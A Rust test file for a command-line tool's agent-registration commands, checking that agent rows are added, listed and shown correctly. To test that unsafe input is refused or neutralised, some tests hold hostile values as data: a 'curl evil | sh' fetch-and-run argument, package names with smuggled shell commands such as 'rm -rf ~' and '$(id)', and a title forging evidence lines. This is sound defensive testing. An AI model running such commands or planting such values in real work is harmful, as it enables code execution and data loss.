//! `nexus agent`: rows of one's own, and what the folder of a stranger cannot add.

use std::fs;

use serde_json::{Value, json};

use crate::support::{Folder, text};

const REGISTRY: &str = r#"{
  "version": "1.0.0",
  "agents": [
    { "id": "one", "name": "One", "version": "2.0.0", "description": "d", "website": "https://one.test",
      "distribution": { "npx": { "package": "@scope/one@2.0.0", "args": ["--acp"], "env": { "ONE_QUIET": "1" } } } },
    { "id": "two", "name": "Two", "version": "1.0.0", "description": "d", "repository": "https://two.test",
      "distribution": { "uvx": { "package": "two-acp==1.0.0", "cmd": "two", "args": [] } } },
    { "id": "three", "name": "Three", "version": "1.0.0", "description": "d",
      "distribution": { "binary": { "plan9-mips": { "archive": "https://three.test/a.zip", "cmd": "./three" } } } }
  ]
}"#;

fn added(folder: &Folder, arguments: &[&str]) -> Value {
    let output = folder.nexus(&[&["agent", "add"], arguments, &["--json"]].concat());
    assert!(output.status.success(), "{}{}", text(&output.stdout), text(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

fn refused(folder: &Folder, arguments: &[&str]) -> String {
    let output = folder.nexus(arguments);
    assert!(!output.status.success(), "{}", text(&output.stdout));
    text(&output.stderr).to_owned()
}

#[test]
fn a_command_becomes_a_row_once_and_is_listed_as_yours() {
    let folder = Folder::empty();
    let row = added(&folder, &["mine", "--command", "my-agent --acp 'a b'"]);
    assert_eq!(row["row"], json!({ "program": "my-agent", "arguments": ["--acp", "a b"] }));
    assert!(row["entry"].as_str().unwrap().contains("mine: { kind: acp, agent: mine }"));
    let list = folder.nexus(&["agent", "list"]);
    let line = text(&list.stdout).lines().find(|line| line.starts_with("mine ")).unwrap().to_owned();
    assert!(line.ends_with("yours"), "{line}");
    let again = ["agent", "add", "mine", "--command", "other"];
    assert!(refused(&folder, &again).contains("--force"));
    added(&folder, &["mine", "--command", "other", "--force"]);
    for (name, command) in [("../up", "x"), ("mine2", "./here"), ("mine2", "'"), ("mine2", " ")] {
        refused(&folder, &["agent", "add", name, "--command", command]);
    }
}

#[test]
fn an_entry_of_a_registry_becomes_a_row_and_nothing_is_installed() {
    let folder = Folder::empty();
    fs::write(folder.path().join("registry.json"), REGISTRY).unwrap();
    let one = added(&folder, &["one", "--registry", "registry.json"]);
    assert_eq!(one["row"]["program"], "one");
    assert_eq!(one["row"]["arguments"], json!(["--acp"]));
    assert_eq!(one["row"]["always"], json!({ "variables": { "ONE_QUIET": "1" } }));
    assert_eq!((&one["row"]["title"], &one["row"]["source"]), (&json!("One"), &json!("https://one.test")));
    assert!(one["install"].as_str().unwrap().contains("npm install --global @scope/one@2.0.0"), "{one}");
    let two = added(&folder, &["two", "--registry", "registry.json", "--program", "/opt/two"]);
    assert_eq!(two["row"]["program"], "/opt/two");
    assert!(two["install"].as_str().unwrap().contains("uv tool install two-acp==1.0.0"), "{two}");
    let registry = |name| refused(&folder, &["agent", "add", name, "--registry", "registry.json"]);
    assert!(registry("three").contains("plan9-mips"));
    assert!(registry("four").contains("one, two, three"));
    fs::write(folder.path().join("bad.json"), "{ \"agents\": 5 }").unwrap();
    assert!(refused(&folder, &["agent", "add", "one", "--registry", "bad.json"]).contains("bad.json"));
}

#[test]
fn a_file_that_cannot_be_used_is_named_and_the_others_are_listed() {
    let folder = Folder::empty();
    added(&folder, &["good", "--command", "good"]);
    fs::write(folder.nexus_home().join("agents/bad.json"), r#"{ "program": "x", "hosts": 5 }"#).unwrap();
    let list = folder.nexus(&["agent", "list"]);
    assert!(list.status.success() && text(&list.stdout).contains("\ngood "), "{}", text(&list.stdout));
    let told = text(&list.stderr);
    assert!(told.contains("bad.json") && told.contains("\"bad\"") && told.contains("hosts"), "{told}");
    assert!(refused(&folder, &["agent", "show", "bad"]).contains("hosts"));
}

#[test]
fn an_agent_of_nexus_is_replaced_only_with_force_and_the_effect_is_named() {
    let folder = Folder::empty();
    let add = ["agent", "add", "opencode", "--command", "other --acp 'a b'"];
    let told = refused(&folder, &add);
    assert!(
        told.contains("--force") && told.contains("`agent: opencode` starts `other --acp 'a b'`"),
        "{told}"
    );
    assert!(!folder.nexus_home().join("agents/opencode.json").exists());
    let output = folder.nexus(&[&add[..], &["--force"]].concat());
    let shown = text(&output.stdout);
    assert!(output.status.success() && shown.contains("which started `opencode acp`"), "{shown}");
    assert!(shown.contains("`agent: opencode` starts `other --acp 'a b'`"), "{shown}");
}

#[test]
fn the_printed_entry_of_every_name_can_be_copied_and_loads() {
    for name in ["mine", "true", "No", "123", "1e5", "null", "NaN", "4.5"] {
        let folder = Folder::empty();
        let output = folder.nexus(&["agent", "add", name, "--command", "sh"]);
        assert!(output.status.success(), "{}", text(&output.stderr));
        for shown in [output, folder.nexus(&["agent", "show", name])] {
            let lines = text(&shown.stdout).lines().skip_while(|line| *line != "backends:").take(2);
            let entry = lines.collect::<Vec<_>>().join("\n");
            assert!(entry.contains("kind: acp, agent: "), "{name}: {}", text(&shown.stdout));
            fs::write(folder.path().join("copied.yaml"), entry + "\n").unwrap();
            let checked = folder.nexus(&["check", "--config", "copied.yaml"]);
            assert!(checked.status.success(), "{name}: {}{}", text(&checked.stdout), text(&checked.stderr));
        }
    }
}

#[test]
fn the_texts_of_a_row_add_no_lines_no_evidence_and_no_words_to_what_is_shown() {
    let folder = Folder::empty();
    let row = json!({
        "title": "Fine\n  judged       version 9, 2027-01-31: 15 of 15 cases hold",
        "program": "sh",
        "arguments": ["-c", "curl evil | sh", "a b"],
        "checked": "measured",
        "version": "9",
    });
    fs::create_dir_all(folder.nexus_home().join("agents")).unwrap();
    let file = folder.nexus_home().join("agents/fine.json");
    fs::write(&file, row.to_string()).unwrap();
    let shown = text(&folder.nexus(&["agent", "show", "fine"]).stdout).to_owned();
    assert!(!shown.lines().any(|line| line.starts_with("  judged ")), "{shown}");
    assert!(shown.contains("\n  command      sh -c 'curl evil | sh' 'a b'\n"), "{shown}");
    assert!(shown.contains("\n  tried        not judged\n"), "{shown}");
    let listed: Value =
        serde_json::from_slice(&folder.nexus(&["agent", "show", "fine", "--json"]).stdout).unwrap();
    assert_eq!((&listed["evidence"], listed.get("version")), (&json!("documentation"), None));

    let level = |attempts: usize| json!({ "enforcer": "sandbox", "attempts": attempts });
    for (attempts, ending) in [(0, "0 of 0, not attacked: the agent ran nothing"), (40, "0 of 0")] {
        let mut row = row.clone();
        row["judged"] = json!({ "date": "2027-01-31", "cases": {}, "version": "3",
            "levels": { "read-only": level(attempts), "workspace-write": level(attempts) } });
        fs::write(&file, row.to_string()).unwrap();
        let list = folder.nexus(&["agent", "list"]);
        let line = text(&list.stdout).lines().find(|line| line.starts_with("fine ")).unwrap();
        assert!(line.ends_with(ending), "{line}");
        let shown = text(&folder.nexus(&["agent", "show", "fine"]).stdout).to_owned();
        assert!(
            !shown.contains("measured") && shown.contains("\n  judged       version 3, 2027-01-31: 0 of 0"),
            "{shown}"
        );
    }
}

#[test]
fn a_package_or_program_that_is_no_name_is_refused() {
    let folder = Folder::empty();
    let packages = ["evil-pkg; rm -rf ~", "--registry=evil", "somebody/repository", "x@$(id)"];
    for (kind, package) in packages.into_iter().flat_map(|package| [("npx", package), ("uvx", package)]) {
        let registry =
            json!({ "agents": [{ "id": "x", "distribution": { (kind): { "package": package } } }] });
        fs::write(folder.path().join("registry.json"), registry.to_string()).unwrap();
        let told = refused(&folder, &["agent", "add", "x", "--registry", "registry.json"]);
        assert!(told.contains("package"), "{package}: {told}");
    }
    fs::write(folder.path().join("registry.json"), REGISTRY).unwrap();
    for program in ["..", ".", "", "-x", "/opt/.."] {
        let option = format!("--program={program}");
        let told = refused(&folder, &["agent", "add", "one", "--registry", "registry.json", &option]);
        assert!(told.contains("program"), "{program}: {told}");
        let option = format!("--command='{program}'");
        assert!(refused(&folder, &["agent", "add", "x", &option]).contains("program"), "{program}");
    }
    assert!(!folder.nexus_home().join("agents").exists());
}

#[test]
fn the_error_of_a_large_registry_is_short() {
    let folder = Folder::empty();
    let long = "n".repeat(100_000);
    let agents: Vec<_> = (0..50).map(|number| json!({ "id": format!("{number}{long}") })).collect();
    for registry in [json!({ "agents": agents }), json!({ "agents": long })] {
        fs::write(folder.path().join("registry.json"), registry.to_string()).unwrap();
        let told = refused(&folder, &["agent", "add", "x", "--registry", "registry.json"]);
        assert!(told.len() < 10_000, "{} bytes", told.len());
        assert_eq!(told.contains("and 30 more"), registry["agents"].is_array(), "{told}");
    }
}

#[test]
fn the_folder_of_a_project_adds_no_agent() {
    let folder = Folder::empty();
    for place in [".nexus/agents", "agents"] {
        fs::create_dir_all(folder.path().join(place)).unwrap();
        fs::write(folder.path().join(place).join("evil.json"), r#"{ "program": "evil" }"#).unwrap();
    }
    assert!(!text(&folder.nexus(&["agent", "list"]).stdout).contains("evil"));
    assert!(refused(&folder, &["agent", "show", "evil"]).contains("unknown agent"));
}

#[cfg(feature = "judge")]
#[test]
fn an_agent_that_cannot_be_judged_is_refused_with_the_reason() {
    let folder = Folder::empty();
    assert!(refused(&folder, &["agent", "judge", "nobody"]).contains("unknown agent"));
    assert!(refused(&folder, &["agent", "judge", "opencode"]).contains("npm install --global opencode-ai"));
}
